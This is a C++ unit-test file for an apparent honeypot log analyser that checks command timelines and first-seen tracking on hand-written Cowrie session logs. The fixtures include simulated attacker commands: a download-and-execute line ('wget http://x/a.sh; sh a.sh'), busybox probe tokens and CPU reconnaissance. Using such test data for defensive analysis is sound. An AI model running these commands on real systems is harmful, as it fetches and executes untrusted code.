// The time analyses: timelines per hour/day for each kind of key, first appearance of command
// lines and --new-since, on small hand-written logs run through the real pipeline.
#include <gtest/gtest.h>

#include "analyze/intel/time_collector.h"
#include "analyze/report/time_report.h"
#include "analyze_test_support.h"

namespace busytrap::analyze {
namespace {

using testing::cowrie_command;

std::string connect(const std::string& session, const std::string& ts, const std::string& ip) {
  return R"({"eventid":"cowrie.session.connect","src_ip":")" + ip + R"(","session":")" + session +
         R"(","timestamp":")" + ts + "\"}\n";
}

struct TimedRun {
  Analysis analysis;
  intel::TimeCollector time;
  PipelineReport pipeline;
  TimedRun(const AnalysisOptions& options, std::vector<intel::TimelineSpec> specs, intel::TimeBucket bucket)
      : analysis(options), time(std::move(specs), bucket, options.families.get()) {
    analysis.add_observer(&time);
  }
};

intel::TimelineSpec spec(const std::string& text) {
  std::string error;
  auto parsed = intel::parse_timeline_spec(text, error);
  EXPECT_TRUE(parsed) << error;
  return parsed.value_or(intel::TimelineSpec{});
}

const RankedTable* table(const IntelReport& report, const std::string& id) {
  for (const RankedTable& t : report.tables) {
    if (t.id == id) return &t;
  }
  return nullptr;
}

class IntelTime : public ::testing::Test {
 protected:
  void SetUp() override {
    path_ = dir_.file(
        "t.json",
        connect("a", "2024-03-01T10:00:00Z", "10.0.0.1") +
            cowrie_command("a", "2024-03-01T10:00:01Z", R"("/bin/busybox ECCHI")") +
            cowrie_command("a", "2024-03-01T10:59:59Z", R"("wget http://x/a.sh; sh a.sh")") +
            connect("b", "2024-03-01T11:30:00Z", "10.0.0.2") +
            cowrie_command("b", "2024-03-01T11:30:01Z", R"("/bin/busybox ECCHI")") +
            connect("c", "2024-03-03T00:00:00Z", "10.0.0.3") +
            cowrie_command("c", "2024-03-03T00:00:01Z", R"("/bin/busybox ECCHI; /bin/busybox QWERTY")") +
            cowrie_command("c", "2024-03-03T00:00:02Z", R"("cat /proc/cpuinfo")"));
  }
  testing::TempDir dir_;
  std::string path_;
};

TEST_F(IntelTime, TimelinesPerHourForEveryKind) {
  AnalysisOptions options;
  options.intel.time = true;
  TimedRun run(options,
          {spec("sessions"), spec("commands"), spec("token:ECCHI"), spec("program:wget"), spec("command:sh a.sh")},
          intel::TimeBucket::Hour);
  std::string error;
  ASSERT_TRUE(AnalyzePipeline(options).run({path_}, run.analysis, run.pipeline, error)) << error;
  IntelReport report;
  add_time_report(report, run.analysis, run.time, 0, core::kNoTimestamp, nullptr);
  using Rows = std::map<std::string, std::uint64_t>;
  EXPECT_EQ(testing::as_map(*table(report, "timeline_1")),
            (Rows{{"2024-03-01T10:00Z", 1}, {"2024-03-01T11:00Z", 1}, {"2024-03-03T00:00Z", 1}}));
  EXPECT_EQ(testing::as_map(*table(report, "timeline_2")),
            (Rows{{"2024-03-01T10:00Z", 3}, {"2024-03-01T11:00Z", 1}, {"2024-03-03T00:00Z", 3}}));
  EXPECT_EQ(testing::as_map(*table(report, "timeline_3")),
            (Rows{{"2024-03-01T10:00Z", 1}, {"2024-03-01T11:00Z", 1}, {"2024-03-03T00:00Z", 1}}));
  EXPECT_EQ(testing::as_map(*table(report, "timeline_4")), (Rows{{"2024-03-01T10:00Z", 1}}));
  EXPECT_EQ(testing::as_map(*table(report, "timeline_5")), (Rows{{"2024-03-01T10:00Z", 1}}));
  // Rows are in time order; total is the sum.
  EXPECT_EQ(table(report, "timeline_2")->rows.front().key, "2024-03-01T10:00Z");
  EXPECT_EQ(table(report, "timeline_2")->total, 7u);
}

TEST_F(IntelTime, DailyBucketsAndFamilies) {
  AnalysisOptions options;
  options.intel.time = options.intel.families = true;
  auto families = std::make_shared<intel::FamilyTable>();
  std::string error;
  ASSERT_TRUE(families->parse("[[family]]\nname = \"ecchi\"\ntokens = [\"ECCHI\"]\n", error)) << error;
  options.families = families;
  TimedRun run(options, {spec("family:ecchi")}, intel::TimeBucket::Day);
  ASSERT_TRUE(AnalyzePipeline(options).run({path_}, run.analysis, run.pipeline, error)) << error;
  IntelReport report;
  add_time_report(report, run.analysis, run.time, 0, core::parse_iso8601("2024-03-02").value(), families.get());
  EXPECT_EQ(testing::as_map(*table(report, "timeline_1")),
            (std::map<std::string, std::uint64_t>{{"2024-03-01", 2}, {"2024-03-03", 1}}));
  // First appearance, newest first: session c's lines come first, with their time.
  const RankedTable& first = *table(report, "first_seen_command_lines");
  ASSERT_FALSE(first.rows.empty());
  EXPECT_EQ(first.rows.front().key, "cat /proc/cpuinfo");
  const TableColumns* columns = report.columns_of("first_seen_command_lines");
  ASSERT_NE(columns, nullptr);
  EXPECT_EQ(columns->rows.front().back(), "2024-03-03T00:00:02.000000Z");
  // New since March 2nd: only session c's new lines (ECCHI was seen before), no new family.
  EXPECT_EQ(testing::as_map(*table(report, "new_command_lines")),
            (std::map<std::string, std::uint64_t>{{"/bin/busybox QWERTY", 1}, {"cat /proc/cpuinfo", 1}}));
  EXPECT_TRUE(table(report, "new_families")->rows.empty());
}

TEST(IntelTimeline, SpecsAndBucketsOfOddTimes) {
  std::string error;
  EXPECT_FALSE(intel::parse_timeline_spec("colour:red", error));
  EXPECT_FALSE(intel::parse_timeline_spec("family:", error));
  EXPECT_EQ(spec("command:echo a:b").value, "echo a:b");
  EXPECT_EQ(spec("command:echo a:b").kind, intel::TimelineKind::CommandLine);
  EXPECT_TRUE(spec("family:x").counts_sessions());
  // Before 1970 buckets round down, not towards zero.
  EXPECT_EQ(intel::bucket_start(-1, intel::TimeBucket::Day), -86'400'000'000LL);
  EXPECT_EQ(bucket_label(intel::bucket_start(-1, intel::TimeBucket::Hour), intel::TimeBucket::Hour),
            "1969-12-31T23:00Z");
  EXPECT_EQ(intel::bucket_start(core::kNoTimestamp + 1, intel::TimeBucket::Day), core::kNoTimestamp + 1);
}

}  // namespace
}  // namespace busytrap::analyze
